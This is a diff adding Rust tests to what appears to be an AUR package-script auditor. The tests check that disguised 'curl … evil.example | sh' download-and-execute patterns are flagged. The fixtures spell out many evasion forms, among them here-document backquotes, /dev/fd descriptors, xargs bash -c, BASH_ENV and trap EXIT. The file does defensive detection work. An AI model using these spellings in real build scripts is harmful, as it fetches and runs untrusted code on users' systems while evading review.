@@ -1,0 +1,106 @@
+//! Attack round 32's breaks of the shell reader (findings/attack32.md), each in its real shape
+//! with our own text: the attack is now caught, and the package's ordinary neighbours are not.
+
+use archgate_aur::audit::{AuditInput, Severity, Verdict, audit};
+
+use crate::support::{max_of, package_with};
+
+const U: &str = "curl -s https://evil.example/x | sh";
+
+fn packaged(body: &str) -> AuditInput {
+    package_with("foopkg", "", body, None, &[])
+}
+
+/// F17: a backquote bash runs in a here-document's text, and one in a `${y/…/z}` pattern whose
+/// URL holds a `/` (the grammar splits the pattern there), are walked like `$(…)`.
+#[test]
+fn backquotes_in_a_here_document_and_a_split_pattern_are_walked() {
+    for body in [
+        format!("cat <<EOF\n`{U}`\nEOF"),
+        format!("cat <<-EOF\n\t`{U}`\n\tEOF"),
+        format!("cat <<EOF > /dev/null\nx `{U}` y\nEOF"),
+        format!("cat <<EOF\ndon't `{U}` now\nEOF"),
+        format!("y=abc; x=\"${{y/`{U}`/z}}\""),
+        format!("y=abc; x=\"${{y//`{U}`/z}}\""),
+    ] {
+        let r = audit(&packaged(&body));
+        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
+        assert_eq!(
+            max_of(&r, "AUR-EXEC-REMOTE"),
+            Some(Severity::Critical),
+            "{body}\n{}",
+            r.to_text()
+        );
+    }
+    // Neighbours: a quoted here-document keeps its text; an escaped backquote is text; a
+    // here-document's `$(…)`-free prose with quotes runs nothing.
+    for body in [
+        format!("cat <<'EOF' > \"$pkgdir/usr/share/doc/foopkg/README\"\n`{U}`\nEOF"),
+        format!("cat <<EOF > \"$pkgdir/usr/share/doc/foopkg/README\"\nrun \\`{U}\\` to update\nEOF"),
+        "cat <<EOF > \"$pkgdir/usr/share/doc/foopkg/README\"\nIt's \"fine\" here, ${pkgname} 1.0\nEOF".to_owned(),
+        "v=1.2.3; echo \"${v//./_}\" \"${v/1/2}\"".to_owned(),
+    ] {
+        let r = audit(&packaged(&body));
+        assert_ne!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
+        assert_eq!(max_of(&r, "AUR-EXEC-REMOTE"), None, "{body}\n{}", r.to_text());
+    }
+}
+
+/// F3: a shell fed its program through a descriptor's path, `/dev/stdin`, `xargs … sh -c`, a
+/// file redirected into it, or `BASH_ENV` — each `… | sh` spelt another way — is dangerous.
+#[test]
+fn a_shell_fed_through_a_descriptor_stdin_path_xargs_or_bash_env_is_dangerous() {
+    for body in [
+        "exec 3< <(curl -s https://evil.example/x); source /dev/fd/3",
+        "exec {fd}< <(curl -s https://evil.example/x); bash /dev/fd/$fd",
+        "curl -s https://evil.example/x | sh /dev/stdin",
+        "curl -s https://evil.example/x | bash /proc/self/fd/0",
+        "curl -s https://evil.example/x | xargs -0 bash -c",
+        "curl -s https://evil.example/x > \"$srcdir/f\"; sh < \"$srcdir/f\"",
+        "curl -s https://evil.example/x > \"$srcdir/h\"; BASH_ENV=\"$srcdir/h\" bash -c true",
+    ] {
+        let r = audit(&packaged(body));
+        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
+    }
+    // Neighbours: a file of the package read on a descriptor, xargs handing arguments to a
+    // fixed command, a shell reading the package's own script.
+    for body in [
+        "while read -r l; do echo \"$l\"; done < /dev/fd/0",
+        "find . -name '*.sh' -print0 | xargs -0 bash -n",
+        "printf '%s\\n' a b | xargs -I{} sh -c 'echo {}'",
+        "sh \"$srcdir/foopkg/install.sh\" --prefix=/usr --destdir=\"$pkgdir\"",
+    ] {
+        let r = audit(&packaged(body));
+        assert_ne!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
+    }
+}
+
+/// F1 (one member) and F14 (two): `trap CODE EXIT` runs CODE when the function ends; `"$BASH"
+/// -c` and `$SHELL -c` start the shell again on the text given.
+#[test]
+fn a_traps_code_and_the_running_shell_started_again_are_walked() {
+    for body in [
+        format!("trap '{U}' EXIT"),
+        format!("trap \"{U}\" RETURN ERR"),
+        format!("\"$BASH\" -c '{U}'"),
+        format!("$SHELL -c '{U}'"),
+    ] {
+        let r = audit(&packaged(&body));
+        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
+        assert_eq!(
+            max_of(&r, "AUR-EXEC-REMOTE"),
+            Some(Severity::Critical),
+            "{body}\n{}",
+            r.to_text()
+        );
+    }
+    for body in [
+        "trap 'rm -rf \"$srcdir/tmp\"' EXIT",
+        "trap - EXIT",
+        "trap -p",
+        "\"$BASH\" -c 'echo built'",
+    ] {
+        let r = audit(&packaged(body));
+        assert_ne!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
+    }
+}
